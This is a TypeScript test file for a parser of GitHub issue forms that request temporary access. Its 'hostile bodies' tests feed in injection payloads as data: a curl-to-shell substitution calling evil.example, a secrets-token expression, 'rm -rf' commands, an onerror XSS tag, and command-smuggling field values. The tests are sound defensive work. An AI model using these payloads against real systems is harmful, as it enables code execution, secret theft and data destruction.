import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import {
  MAX_BODY_CHARS,
  parseRequestForm,
  REQUEST_FORM_FIELDS,
} from '../../../src/jit/parse-issue-form.js';
import { formBody, GOOD_ANSWERS } from './request-form.js';

describe('parseRequestForm: the form as GitHub renders it', () => {
  it('reads every answer; an empty optional field is absent', () => {
    expect(parseRequestForm(formBody())).toEqual({
      fields: {
        business: '240340',
        role: 'contractor',
        email: 'temp@contractors.example',
        duration: '8h',
        reason: 'Quarter close',
        ticket: 'FIN-99',
      },
      problems: [],
    });
  });

  it('reads CRLF bodies (the web editor) the same way', () => {
    expect(parseRequestForm(formBody(GOOD_ANSWERS, '\r\n'))).toEqual(parseRequestForm(formBody()));
  });

  it('puts a multi-line reason on one line', () => {
    const parsed = parseRequestForm(
      formBody({ ...GOOD_ANSWERS, reason: 'Quarter close\n\n  and audit' }),
    );
    expect(parsed.fields.reason).toBe('Quarter close and audit');
    expect(parsed.problems).toEqual([]);
  });

  it('names each missing required field', () => {
    const parsed = parseRequestForm(
      formBody({ business: '240340', role: 'contractor', duration: '8h' }),
    );
    expect(parsed.problems).toEqual(['Email is required', 'Reason is required']);
  });

  it('refuses a body not made from the form', () => {
    expect(parseRequestForm('Please give me admin, thanks!').problems).toEqual([
      'the body has text outside the form’s sections: make the issue from the form',
      'Business is missing: make the issue from the form',
      'Role is missing: make the issue from the form',
      'Email is missing: make the issue from the form',
      'Reason is missing: make the issue from the form',
    ]);
    expect(parseRequestForm(null).problems).toHaveLength(4);
  });
});

describe('parseRequestForm: hostile bodies', () => {
  const cases: Array<[string, string, string]> = [
    [
      'shell command substitution',
      '$(curl evil.example | sh)',
      'Reason contains shell or template syntax ($( or ${): write it as plain text',
    ],
    [
      'a GitHub expression',
      '${{ secrets.FRESHBOOKS_REFRESH_TOKEN }}',
      'Reason contains shell or template syntax ($( or ${): write it as plain text',
    ],
    [
      'template braces',
      '{{ 7*7 }}',
      'Reason contains template braces ({{ or }}): write it as plain text',
    ],
    ['backticks', 'run `rm -rf /`', 'Reason contains a backtick (`): write it as plain text'],
    [
      'HTML',
      '<img src=x onerror=alert(1)>',
      'Reason contains HTML (< or >): write it as plain text',
    ],
    [
      'a markdown link',
      '[click](https://evil.example)',
      'Reason contains a markdown link or image: write it as plain text',
    ],
    [
      'a markdown image',
      '![x](https://evil.example/x.png)',
      'Reason contains a markdown link or image: write it as plain text',
    ],
    [
      'a bidi override',
      'close\u202eesolc',
      'Reason holds control or invisible characters: write it on one line, as plain text',
    ],
    [
      'an escape sequence',
      'close\u001b[31m',
      'Reason holds control or invisible characters: write it on one line, as plain text',
    ],
  ];
  it.each(cases)('refuses %s in a free-text answer', (_what, reason, problem) => {
    expect(parseRequestForm(formBody({ ...GOOD_ANSWERS, reason })).problems).toEqual([problem]);
  });

  it('refuses identifiers outside their alphabet, quoting them shortened', () => {
    const parsed = parseRequestForm(
      formBody({
        ...GOOD_ANSWERS,
        email: 'a@b.example; rm -rf ~',
        duration: '8h; id',
        ticket: 'FIN-99 && curl x',
        role: 'Admin!',
      }),
    );
    expect(parsed.problems).toEqual([
      'Role "Admin!" is not one of the roles the form lists',
      'Email "a@b.example; rm -rf ~" is not one e-mail address',
      'Duration "8h; id" is not a whole number and a unit: 30m, 8h, 14d, 2w',
      'Ticket "FIN-99 && curl x" is not letters, digits and . _ : # / @ + - (like FIN-99)',
    ]);
    expect(parsed.fields).toEqual({ business: '240340', reason: 'Quarter close' });
  });

  it('refuses an answer that smuggles in a second section (a heading inside the reason)', () => {
    const parsed = parseRequestForm(
      formBody({ ...GOOD_ANSWERS, reason: 'Quarter close\n\n### Role\n\nadmin' }),
    );
    expect(parsed.problems).toEqual(['Role appears more than once: keep one answer per field']);
  });

  it('refuses sections the form does not have', () => {
    const parsed = parseRequestForm(`${formBody()}\n\n### Approved by\n\n@maya`);
    expect(parsed.problems).toEqual([
      'the body has a section "Approved by" that the form does not have: the answers must be the form\'s sections only (no headings inside an answer)',
    ]);
  });

  it('refuses oversized answers and bodies', () => {
    const long = parseRequestForm(formBody({ ...GOOD_ANSWERS, reason: 'x'.repeat(501) }));
    expect(long.problems).toEqual(['Reason is 501 characters; at most 500 are accepted']);
    const huge = parseRequestForm(`${formBody()}\n${' '.repeat(MAX_BODY_CHARS)}`);
    expect(huge.fields).toEqual({});
    expect(huge.problems[0]).toMatch(
      /^the issue body is 8,1\d\d characters; a request form is at most 8,000/,
    );
  });

  it('never throws, and accepts nothing outside the limits, whatever the body', () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 400 }), fc.string({ maxLength: 200 }), (junk, reason) => {
        const parsed = parseRequestForm(`${junk}\n${formBody({ ...GOOD_ANSWERS, reason })}`);
        for (const field of REQUEST_FORM_FIELDS) {
          const value = parsed.fields[field.id];
          if (value === undefined) continue;
          expect(value.length).toBeLessThanOrEqual(field.max);
          expect(value).not.toMatch(/[`<>]|\$[({]|\{\{|\]\(/);
        }
      }),
    );
  });
});
